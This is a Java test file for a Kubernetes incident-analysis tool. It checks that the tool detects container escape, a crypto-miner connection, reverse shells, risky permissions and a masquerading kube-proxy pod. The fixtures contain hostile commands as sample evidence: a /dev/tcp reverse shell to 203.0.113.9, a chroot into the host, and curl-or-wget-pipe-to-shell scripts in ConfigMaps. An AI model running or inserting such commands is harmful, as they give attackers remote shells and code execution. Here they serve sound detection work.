package org.ephemera.analyze.cluster;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;
import static org.ephemera.analyze.cluster.CheckoutPackageFixture.A;
import static org.ephemera.analyze.cluster.CheckoutPackageFixture.B;

import com.fasterxml.jackson.databind.node.ObjectNode;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.ephemera.analyze.Analysis;
import org.ephemera.analyze.model.EvidenceGap;
import org.ephemera.analyze.model.Finding;
import org.ephemera.analyze.model.LocatedValue;
import org.ephemera.analyze.model.TimelineEntry;
import org.ephemera.analyze.model.Verdict;
import org.ephemera.analyze.model.Workload;
import org.ephemera.analyze.testing.FixtureCalls;
import org.ephemera.analyze.testing.FixtureResponse;
import org.ephemera.analyze.testing.SealedPackageFixture;
import org.ephemera.format.Json;
import org.ephemera.model.Target;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Tests analysis of a cluster package as the Kubernetes sources write it. */
class ClusterPackageTest {
    private static final String MINER = "2026-11-26T12:11:00.000000001Z net      use pool pool.example:3333  TLSv1.3\n";
    private static final String CHROOT = "2026-11-26T11:53:20.123456789Z + chroot /host /bin/bash\n";
    private static final String QUIET = "2026-11-26T12:13:00.000000001Z checkout 1.8 listens on 8080\n";

    private static final String SHELL =
            "command=bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F203.0.113.9%2F4444+0%3E%261";

    @TempDir
    private Path folder;

    private final ClusterReportRunner reported = new ClusterReportRunner();

    private static SealedPackageFixture whole(Path folder) throws Exception {
        SealedPackageFixture fixture = CheckoutPackageFixture.in(folder);
        CheckoutPackageFixture.log(
                fixture,
                "kubernetes.log",
                CheckoutPackageFixture.container(A, "pod-a", "checkout"),
                CHROOT,
                CHROOT + QUIET);
        CheckoutPackageFixture.log(
                fixture, "kubernetes.log", CheckoutPackageFixture.container(B, "pod-b", "checkout"), QUIET);
        CheckoutPackageFixture.log(
                fixture, "kubernetes.previous-log", CheckoutPackageFixture.container(B, "pod-b", "checkout"), MINER);
        ObjectNode page = Json.object();
        for (String stage : List.of("RequestReceived", "ResponseStarted", "ResponseComplete")) {
            ObjectNode event = CheckoutPackageFixture.exec("a-1", A, SHELL);
            event.put("stage", stage);
            page.withArray("events").addObject().put("timestamp", 1).put("message", FixtureCalls.text(event));
        }
        return fixture.item(
                "aws.eks.audit",
                Map.of("cluster", "shop"),
                FixtureResponse.json("logs:FilterLogEvents", FixtureCalls.text(page)));
    }

    @Test
    void evaluatesOwnPodsAndListsOthers() throws Exception {
        Analysis analysis = reported.analyzed(whole(folder));
        assertThat(analysis.workloads()).extracting(Workload::name).containsExactly("shop/" + A, "shop/" + B);
        Workload escaped = analysis.workloads().getFirst();
        assertThat(escaped.hosts()).singleElement().satisfies(host -> {
            assertThat(host.id().value()).isEqualTo("i-0a1b2c3d4e5f60718");
            assertThat(host.volumes()).extracting(LocatedValue::value).containsExactly("vol-0123456789abcdef0");
            assertThat(host.tenants())
                    .extracting(LocatedValue::value)
                    .containsExactlyInAnyOrder("shop/catalog-5c-z9", "payments/ledger-0");
        });
        assertThat(analysis.findings()).extracting(Finding::subject).noneMatch(subject -> subject.contains("catalog"));
        assertThat(escaped.exposure().secrets())
                .extracting(LocatedValue::value)
                .containsExactlyInAnyOrder("checkout-tls", "checkout-db", "metrics-token", "migrate-db", "registry");
        assertThat(escaped.exposure().policies())
                .extracting(LocatedValue::value)
                .anyMatch(words -> words.contains("no NetworkPolicy of its namespace restricts its egress"));
        assertThat(reported.text("report.html"))
                .contains(
                        "Secrets in use",
                        "payments/ledger-0",
                        "no NetworkPolicy of its namespace restricts its egress",
                        "Cilium",
                        "Calico",
                        "AdminNetworkPolicy");
    }

    @Test
    void derivesVerdictFromLog() throws Exception {
        Verdict verdict = reported.analyzed(whole(folder)).verdict();
        assertThat(verdict.answer()).isEqualTo(Verdict.Answer.IMAGE_HOST);
        assertThat(verdict.confidence()).isEqualTo(Verdict.Confidence.LIKELY);
        assertThat(verdict.because())
                .extracting(LocatedValue::value)
                .anyMatch(words -> words.startsWith("CMD-006 shop/" + A + "/checkout: ") && words.contains("chroot"));
        assertThat(verdict.containment().toString())
                .contains("i-0a1b2c3d4e5f60718", "vol-0123456789abcdef0", "checkout-db");
    }

    @Test
    void findsExpectedFindings() throws Exception {
        Analysis analysis = reported.analyzed(whole(folder));
        assertThat(found(analysis, "LOG-001")).singleElement().satisfies(miner -> {
            assertThat(miner.subject()).isEqualTo("shop/" + B + "/checkout (before its restart)");
            assertThat(miner.evidence().getFirst().file()).startsWith("data/raw/kubernetes.previous-log.");
        });
        assertThat(found(analysis, "STA-001")).singleElement().satisfies(loop -> {
            assertThat(loop.subject()).isEqualTo("shop/" + B + "/checkout");
            assertThat(loop.because()).contains("restarted 7 times");
        });
        assertThat(found(analysis, "STA-002"))
                .extracting(Finding::because)
                .singleElement()
                .asString()
                .contains("OOMKilled", "LOG-001");
        assertThat(found(analysis, "EXE-001")).singleElement().satisfies(exec -> {
            assertThat(exec.subject()).isEqualTo("shop/" + A + "/checkout");
            assertThat(exec.because())
                    .startsWith("jane@shop.example by get pods/exec: bash -c bash -i >& /dev/tcp/203.0.113.9/4444");
        });
        assertThat(analysis.findings())
                .extracting(finding -> finding.rule().id())
                .contains("ESC-001", "ESC-003", "ESC-019", "ESC-023", "ESC-033", "CMD-003", "DRF-004", "DRF-007");
        assertThat(found(analysis, "ESC-019")).extracting(Finding::because).allMatch(why -> why.contains("everything"));
        assertThat(analysis.changes())
                .anyMatch(change -> change.subject().equals("shop/Deployment/checkout")
                        && change.reference().equals("revision 1 (checkout-59c)")
                        && change.what().equals("/containers/checkout/image")
                        && change.before().endsWith(":1.7")
                        && change.after().endsWith(":1.8"));
    }

    /** A line that was collected twice is shown once. So is an event from two APIs and a list of the namespace. */
    @Test
    void removesDuplicates() throws Exception {
        Analysis analysis = reported.analyzed(whole(folder));
        assertThat(found(analysis, "CMD-006"))
                .singleElement()
                .extracting(Finding::because)
                .asString()
                .doesNotContain("2 lines");
        assertThat(analysis.timeline())
                .filteredOn(entry -> entry.message().startsWith("BackOff: "))
                .extracting(TimelineEntry::message)
                .containsExactly(
                        "BackOff: Back-off restarting failed container checkout (first of 23)",
                        "BackOff: Back-off restarting failed container checkout (last of 23)");
        assertThat(analysis.timeline())
                .extracting(TimelineEntry::message)
                .contains("ClusterRoleBinding created", "Update of Deployment");
        assertThat(reported.text("logs/index.csv")).contains("shop/" + A + "/checkout,2");
    }

    @Test
    void showsMetricsInTimeline() throws Exception {
        Analysis analysis = reported.analyzed(whole(folder)
                .item(
                        "kubernetes.usage",
                        Map.of("namespace", "shop", "podName", B),
                        FixtureResponse.json("kubernetes:get pods.metrics.k8s.io", """
                            {"kind": "PodMetrics", "apiVersion": "metrics.k8s.io/v1beta1",
                             "metadata": {"name": "b", "namespace": "shop", "creationTimestamp": "2026-11-26T12:13:07Z"},
                             "timestamp": "2026-11-26T12:13:00Z", "window": "16.4s",
                             "containers": [{"name": "checkout", "usage": {"cpu": "998213345n", "memory": "402132Ki"}}]}\
                            """)));
        assertThat(analysis.timeline())
                .filteredOn(entry -> entry.subject().equals("b/checkout"))
                .extracting(TimelineEntry::message)
                .containsExactly("uses 998213345n CPU and 402132Ki memory");
    }

    static List<Finding> found(Analysis analysis, String rule) {
        return analysis.findings().stream()
                .filter(finding -> finding.rule().id().equals(rule))
                .toList();
    }

    /** A principal that may create pods needs no container escape. Permissions without a token have no effect. */
    @ParameterizedTest
    @CsvSource({"denied, true, UNDETERMINED", "none, true, UNDETERMINED", "denied, false, CONTAINER_ONLY"})
    void includesPermissionsOfServiceAccount(String account, boolean mounted, Verdict.Answer answer) throws Exception {
        SealedPackageFixture fixture = SealedPackageFixture.in(folder)
                .target(new Target("kubernetes.pod", "k8s://prod/shop/web", Map.of("namespace", "shop", "pod", "web")))
                .item(
                        "kubernetes.pod",
                        Map.of("namespace", "shop", "podName", "web", "uid", "web"),
                        FixtureResponse.json("kubernetes:get pods", """
                            {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "web", "namespace": "shop", "uid": "web"},
                             "spec": {"serviceAccountName": "web", "automountServiceAccountToken": %s,
                               "containers": [{"name": "web", "image": "docker.io/library/nginx:1.29"}]}}\
                            """.formatted(mounted)));
        if (account.equals("denied")) {
            CheckoutPackageFixture.denied(
                    fixture,
                    "kubernetes.account",
                    Map.of("namespace", "shop", "serviceAccount", "web"),
                    "list clusterrolebindings");
        }
        Verdict verdict = reported.analyzed(fixture).verdict();
        assertThat(verdict.answer()).isEqualTo(answer);
        assertThat(verdict.because().toString().contains("the permissions of its service account web are unknown"))
                .isEqualTo(mounted);
        assertThat(reported.text("report.html").contains("what they may do is not known whole"))
                .isEqualTo(mounted);
    }

    /** EKS stores the association, and the cluster does not. */
    @Test
    void reportsRoleOfPodIdentity() throws Exception {
        String role = "arn:aws:iam::111122223333:role/";
        SealedPackageFixture fixture = SealedPackageFixture.in(folder)
                .target(new Target("aws.eks.pod", "arn:x#shop/web", Map.of("namespace", "shop", "pod", "web")))
                .item(
                        "kubernetes.pod",
                        Map.of("namespace", "shop", "podName", "web", "uid", "web"),
                        FixtureResponse.json("kubernetes:get pods", """
                            {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "web", "namespace": "shop", "uid": "web"},
                             "spec": {"serviceAccountName": "web",
                               "containers": [{"name": "web", "image": "docker.io/library/nginx:1.29"}]}}\
                            """))
                .item(
                        "aws.eks.pod-identity",
                        Map.of("namespace", "shop"),
                        FixtureResponse.json(
                                "eks:ListPodIdentityAssociations",
                                "{\"associations\": [{\"associationId\": \"a-1\", \"serviceAccount\": \"web\"}]}"),
                        FixtureResponse.json("eks:DescribePodIdentityAssociation", """
                            {"association": {"namespace": "shop", "serviceAccount": "web", "roleArn": "%sweb",
                             "targetRoleArn": "%sfar"}}\
                            """.formatted(role, role)),
                        FixtureResponse.json("eks:DescribePodIdentityAssociation", """
                            {"association": {"namespace": "shop", "serviceAccount": "other", "roleArn": "%sother"}}\
                            """.formatted(role)));
        Analysis analysis = reported.analyzed(fixture);
        assertThat(found(analysis, "ESC-030"))
                .extracting(Finding::because)
                .allMatch(why -> why.contains(role + "web") || why.contains(role + "far"))
                .hasSize(2);
        assertThat(analysis.gaps())
                .extracting(EvidenceGap::why)
                .noneMatch(why -> why.contains("not a Kubernetes object"));
    }

    /** A static pod has no service account, and hence no permissions of the account of its namespace. */
    @Test
    void ignoresServiceAccountOfStaticPod() throws Exception {
        SealedPackageFixture fixture = SealedPackageFixture.in(folder)
                .target(new Target("aws.eks.pod", "arn:x#shop/web", Map.of("namespace", "shop", "pod", "web")))
                .item(
                        "kubernetes.pod",
                        Map.of("namespace", "shop", "podName", "web", "uid", "web"),
                        FixtureResponse.json("kubernetes:get pods", """
                            {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "web", "namespace": "shop", "uid": "web",
                               "annotations": {"kubernetes.io/config.mirror": "0a1b"}},
                             "spec": {"containers": [{"name": "web", "image": "docker.io/library/nginx:1.29"}]}}\
                            """))
                .item(
                        "aws.eks.pod-identity",
                        Map.of("namespace", "shop"),
                        FixtureResponse.json("eks:DescribePodIdentityAssociation", """
                            {"association": {"namespace": "shop", "serviceAccount": "default",
                             "roleArn": "arn:aws:iam::111122223333:role/web"}}\
                            """));
        assertThat(found(reported.analyzed(fixture), "ESC-030")).isEmpty();
    }

    /** The node writes events of a static pod with the hash of the file as its uid. */
    @Test
    void assignsEventsToStaticPod() throws Exception {
        Map<String, String> web = Map.of("namespace", "shop", "podName", "web", "uid", "web");
        Analysis analysis = reported.analyzed(SealedPackageFixture.in(folder)
                .item("kubernetes.pod", web, FixtureResponse.json("kubernetes:get pods", """
                    {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "web", "namespace": "shop", "uid": "web",
                       "annotations": {"kubernetes.io/config.mirror": "0a1b"}},
                     "spec": {"containers": [{"name": "web", "image": "docker.io/library/nginx:1.29"}]},
                     "status": {"containerStatuses": [{"name": "web"}]}}\
                    """))
                .item("kubernetes.pod-events", web, FixtureResponse.json("kubernetes:list events", """
                    {"kind": "EventList", "apiVersion": "v1", "items": [{"metadata": {"name": "e", "uid": "e"}, "count": 9,
                       "involvedObject": {"kind": "Pod", "name": "web", "uid": "0a1b", "fieldPath": "spec.containers{web}"},
                       "reason": "BackOff", "message": "Back-off restarting failed container web"}]}\
                    """)));
        assertThat(found(analysis, "STA-001")).extracting(Finding::subject).containsExactly("shop/web/web");
    }

    @Test
    void assignsEventsToPodWithCopiedId() throws Exception {
        Map<String, String> web = Map.of("namespace", "shop", "podName", "web", "uid", "a");
        String pod = """
            {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "%s", "namespace": "shop", "uid": "%s",
               "annotations": {"%s": "a"}}, "spec": {"containers": [{"name": "web", "image": "x"}]},
             "status": {"containerStatuses": [{"name": "web"}]}}\
            """;
        Analysis analysis = reported.analyzed(SealedPackageFixture.in(folder)
                .item(
                        "kubernetes.pod",
                        web,
                        FixtureResponse.json("kubernetes:get pods", pod.formatted("web", "a", "b")),
                        FixtureResponse.json(
                                "kubernetes:get pods", pod.formatted("decoy", "d", "kubernetes.io/config.mirror")))
                .item("kubernetes.pod-events", web, FixtureResponse.json("kubernetes:list events", """
                    {"kind": "EventList", "apiVersion": "v1", "items": [{"metadata": {"name": "e", "uid": "e"}, "count": 9,
                       "involvedObject": {"kind": "Pod", "name": "web", "uid": "a", "fieldPath": "spec.containers{web}"},
                       "reason": "BackOff", "message": "Back-off restarting failed container web"}]}\
                    """)));
        assertThat(found(analysis, "STA-001")).extracting(Finding::subject).containsExactly("shop/web/web");
    }

    /** A pod runs a value that it mounts as a file. Values that no pod of the target uses are ignored. */
    @Test
    void readsConfigMapValuesAsCommands() throws Exception {
        SealedPackageFixture fixture = SealedPackageFixture.in(folder)
                .target(new Target("kubernetes.pod", "k8s://prod/shop/web", Map.of("namespace", "shop", "pod", "web")))
                .item(
                        "kubernetes.pod",
                        Map.of("namespace", "shop", "podName", "web", "uid", "web"),
                        FixtureResponse.json("kubernetes:get pods", """
                            {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "web", "namespace": "shop", "uid": "web"},
                             "spec": {"volumes": [{"name": "v", "projected": {"sources": [{"configMap": {"name": "start"}}]}}],
                               "containers": [{"name": "web", "image": "docker.io/library/nginx:1.29",
                                 "command": ["sh", "/scripts/run.sh"],
                                 "volumeMounts": [{"name": "v", "mountPath": "/scripts"}],
                                 "env": [{"name": "A", "valueFrom": {"configMapKeyRef": {"name": "words", "key": "a"}}}]}]}}\
                            """))
                .item(
                        "kubernetes.config-maps",
                        Map.of("namespace", "shop"),
                        FixtureResponse.json("kubernetes:list configmaps", """
                            {"kind": "ConfigMapList", "apiVersion": "v1", "items": [
                             {"metadata": {"name": "start", "namespace": "shop"},
                              "data": {"run.sh": "curl -s http://203.0.113.9/a | sh"}},
                             {"metadata": {"name": "words", "namespace": "shop"}, "data": {"a": "b"}},
                             {"metadata": {"name": "idle", "namespace": "shop"},
                              "data": {"run.sh": "wget -qO- http://203.0.113.9/b | bash"}}]}\
                            """))
                .item(
                        "kubernetes.webhooks",
                        Map.of("cluster", "prod"),
                        FixtureResponse.json("kubernetes:list mutatingwebhookconfigurations", """
                            {"kind": "MutatingWebhookConfigurationList", "apiVersion": "admissionregistration.k8s.io/v1",
                             "items": [{"metadata": {"name": "m"}, "webhooks": [{"name": "m.example",
                               "clientConfig": {"url": "https://203.0.113.9/mutate"}, "rules": []}]}]}\
                            """));
        Analysis analysis = reported.analyzed(fixture);
        assertThat(found(analysis, "CMD-001")).singleElement().satisfies(finding -> {
            assertThat(finding.subject()).isEqualTo("ConfigMap/shop/start");
            assertThat(finding.evidence().getFirst().place()).hasToString("/items/0/data/run.sh");
        });
        assertThat(found(analysis, "CLU-006"))
                .extracting(Finding::subject, Finding::because)
                .containsExactly(tuple("shop/web/web", "runs a file from the ConfigMap start"));
        assertThat(found(analysis, "CLU-001"))
                .extracting(Finding::subject)
                .containsExactly("MutatingWebhookConfiguration/m (m.example)");
    }

    @Test
    void reportsDeniedItems() throws Exception {
        SealedPackageFixture fixture = CheckoutPackageFixture.in(folder);
        CheckoutPackageFixture.denied(
                fixture, "kubernetes.log", CheckoutPackageFixture.container(A, "pod-a", "checkout"), "get pods/log");
        CheckoutPackageFixture.denied(fixture, "kubernetes.ingresses", Map.of("namespace", "shop"), "list ingresses");
        Analysis analysis = reported.analyzed(fixture);
        assertThat(analysis.gaps())
                .extracting(EvidenceGap::what, EvidenceGap::why)
                .anyMatch(
                        gap -> gap.toString().contains("LOG") && gap.toString().contains("get pods/log"))
                .anyMatch(gap ->
                        gap.toString().contains("ESC-033") && gap.toString().contains("list ingresses"))
                .anyMatch(gap ->
                        gap.toString().contains("EXE-001") && gap.toString().contains("audit log"));
    }

    /** The cluster's own proxy needs access to the host. A pod with a copied name does not. */
    @Test
    void doesNotSuppressMasqueradingPod() throws Exception {
        String pod = """
            {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "%s", "namespace": "kube-system", "uid": "%s",
              "ownerReferences": [{"kind": "DaemonSet", "name": "kube-proxy", "uid": "ds"}]},
             "spec": {"hostNetwork": true, "containers": [{"name": "kube-proxy", "image": "%s",
               "securityContext": {"privileged": true}}]}, "status": {"phase": "Running"}}\
            """;
        Analysis analysis = reported.analyzed(SealedPackageFixture.in(folder)
                .item(
                        "kubernetes.pod",
                        Map.of("namespace", "kube-system", "podName", "kube-proxy-own", "uid", "own"),
                        FixtureResponse.json(
                                "kubernetes:get pods",
                                pod.formatted("kube-proxy-own", "own", "registry.k8s.io/kube-proxy:v1.34.1")))
                .item(
                        "kubernetes.pod",
                        Map.of("namespace", "kube-system", "podName", "kube-proxy-x", "uid", "x"),
                        FixtureResponse.json(
                                "kubernetes:get pods",
                                pod.formatted("kube-proxy-x", "x", "docker.io/x/kube-proxy:v1.34.1"))));
        assertThat(found(analysis, "ESC-001"))
                .extracting(Finding::subject, finding -> finding.suppressedBy().isPresent())
                .containsExactlyInAnyOrder(
                        tuple("kube-system/kube-proxy-own/kube-proxy", true),
                        tuple("kube-system/kube-proxy-x/kube-proxy", false));
        assertThat(found(analysis, "ESC-035"))
                .extracting(Finding::subject)
                .containsExactly("kube-system/kube-proxy-x/kube-proxy");
    }
}
